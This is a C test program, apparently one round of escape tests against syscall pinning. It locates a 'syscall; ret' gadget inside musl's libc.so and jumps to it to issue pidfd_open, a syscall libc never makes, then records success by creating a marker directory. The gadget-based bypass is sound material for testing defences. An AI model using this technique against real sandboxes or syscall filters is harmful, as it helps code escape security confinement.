/* SPDX-License-Identifier: ISC */
/*
 * Blind round 18 (built with musl-gcc, dynamic): musl's __syscall_cp_asm,
 * in every dynamic musl program, was "any number here" (its address is
 * taken: musl's cancellation handler compares the interrupted pc with
 * it).  A chain jumps to its `syscall; ret` with a number musl's libc.so
 * issues nowhere: pidfd_open (434) of our own pid.  Found by its bytes
 * (`mov %r11,8(%rsp); syscall; ret`) in libc.so's executable mapping.
 * Pinned, its object's numbers only: pidfd_open is not one of them.
 *
 * usage: escape_muslcp MARK    MARK made (by an ordinary mkdir) when the
 * gadget's pidfd_open worked.  Exit 0 made, 3 not, 2 no gadget.
 */
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static long
gadget_call(const void *g, long nr, long a1)
{
	register long r10 __asm__("r10") = 0;
	long ret;

	__asm__ volatile("call *%[g]" : "=a"(ret) : [g] "r"(g), "a"(nr),
	    "D"(a1), "S"(0L), "d"(0L), "r"(r10) : "rcx", "r11", "memory");
	return ret;
}

static const unsigned char *
find_gadget(void)
{
	static const unsigned char pat[] = { 0x4c, 0x89, 0x5c, 0x24, 0x08,
	    0x0f, 0x05, 0xc3 };
	unsigned long lo, hi;
	char line[512], perm[8];
	FILE *f = fopen("/proc/self/maps", "r");
	const unsigned char *g = NULL;

	if (f == NULL)
		return NULL;
	while (g == NULL && fgets(line, sizeof(line), f) != NULL) {
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) != 3 ||
		    perm[2] != 'x' || strstr(line, "libc.so") == NULL)
			continue;
		for (unsigned long p = lo; p + sizeof(pat) <= hi; p++)
			if (memcmp((const void *)p, pat, sizeof(pat)) == 0) {
				g = (const unsigned char *)p + 5;
				break;
			}
	}
	fclose(f);
	return g;
}

int
main(int argc, char **argv)
{
	const unsigned char *g;
	long fd;

	if (argc != 2 || (g = find_gadget()) == NULL)
		return 2;
	fd = gadget_call(g, 434, getpid());	/* pidfd_open */
	printf("pidfd_open from __syscall_cp_asm: %ld\n", fd);
	if (fd < 0)
		return 3;
	return mkdir(argv[1], 0755) == 0 ? 0 : 3;
}
